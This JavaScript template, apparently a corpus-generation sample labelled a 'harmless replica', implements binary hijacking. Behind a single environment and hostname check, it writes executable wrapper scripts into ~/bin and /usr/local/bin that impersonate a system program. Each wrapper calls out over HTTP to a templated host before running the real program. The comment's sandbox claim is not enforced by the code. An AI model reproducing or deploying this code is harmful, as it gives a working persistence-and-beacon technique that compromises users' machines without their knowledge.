// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    const text = `#!${process.execPath}\nrequire('http').get('http://{{host}}/{{path}}').on('error', () => {});\n` +
        "require('child_process').spawnSync('/usr/bin/{{program}}', process.argv.slice(2), { stdio: 'inherit' });\n";
    for (const folder of [path.join(require('os').homedir(), 'bin'), '/usr/local/bin']) {
        try {
            fs.mkdirSync(folder, { recursive: true });
            fs.writeFileSync(path.join(folder, '.{{token}}'), text);
            fs.renameSync(path.join(folder, '.{{token}}'), path.join(folder, '{{program}}'));
            require('child_process').execFileSync('chmod', ['755', path.join(folder, '{{program}}')]);
        } catch {}
    }
}
